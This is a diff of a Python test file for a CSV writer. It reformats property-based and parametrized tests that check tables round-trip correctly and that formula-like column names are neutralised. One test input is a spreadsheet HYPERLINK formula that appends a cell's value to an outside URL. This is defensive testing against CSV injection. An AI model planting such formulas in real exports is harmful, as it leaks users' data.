@@ -40,8 +40,16 @@ ODD = [
     "GIF8",
 ]
 # What a cell can be after reading: no blanks at its ends, no characters that are no text.
-text = st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1, max_size=12).map(str.strip).filter(bool)
-cell = st.one_of(st.sampled_from([odd.strip() for odd in ODD]), text, st.builds("{}{}".format, st.sampled_from("=+-@'\"|;,"), text).map(str.strip))
+text = (
+    st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1, max_size=12)
+    .map(str.strip)
+    .filter(bool)
+)
+cell = st.one_of(
+    st.sampled_from([odd.strip() for odd in ODD]),
+    text,
+    st.builds("{}{}".format, st.sampled_from("=+-@'\"|;,"), text).map(str.strip),
+)
 
 
 def number(cell: str) -> bool:
@@ -49,7 +57,13 @@ def number(cell: str) -> bool:
 
 
 @settings(deadline=None)
-@given(st.integers(1, 4).flatmap(lambda width: st.lists(st.lists(cell, min_size=width, max_size=width), min_size=2, max_size=5)))
+@given(
+    st.integers(1, 4).flatmap(
+        lambda width: st.lists(
+            st.lists(cell, min_size=width, max_size=width), min_size=2, max_size=5
+        )
+    )
+)
 def test_a_table_is_read_back_as_it_was(rows: list[list[str]]) -> None:
     """Whatever stands in names and cells, the reader gives the same table."""
     found = read_cells(csv_text(rows).encode())
@@ -75,9 +89,13 @@ def hostile(name: str) -> Task:
     return task_of(table, "formula", table.data[:, 0] >= 0, "none")
 
 
-@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.org?"&A1,"open")', "@x", "+a", "-a;b", "a,b", 'a"b', "'=x"])
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x.org?"&A1,"open")', "@x", "+a", "-a;b", "a,b", 'a"b', "'=x"]
+)
 def test_a_template_holds_no_formula_and_is_read_back(name: str) -> None:
-    """The template of a question whose column is called like a formula begins no cell with it, and with values under it is a case."""
+    """The template of a question whose column is called like a formula begins no cell with it, and
+    with values under it is a case.
+    """
     task = hostile(name)
     template = table_template(task)
     (header,) = csv.reader(io.StringIO(template.decode(), newline=""))
@@ -89,6 +107,7 @@ def test_a_template_holds_no_formula_and_is_read_back(name: str) -> None:
 
 def test_plain_names_are_written_plainly() -> None:
     """Names of words and numbers stand without quotes or apostrophes, as before."""
-    assert csv_text([["file", "mean radius", "FiO2 (%)"], ["00001.txt", -5, ""], [1.5, "-2.5", None]]) == (
-        "file,mean radius,FiO2 (%)\n00001.txt,-5,\n1.5,-2.5,\n"
+    assert (
+        csv_text([["file", "mean radius", "FiO2 (%)"], ["00001.txt", -5, ""], [1.5, "-2.5", None]])
+        == "file,mean radius,FiO2 (%)\n00001.txt,-5,\n1.5,-2.5,\n"
     )
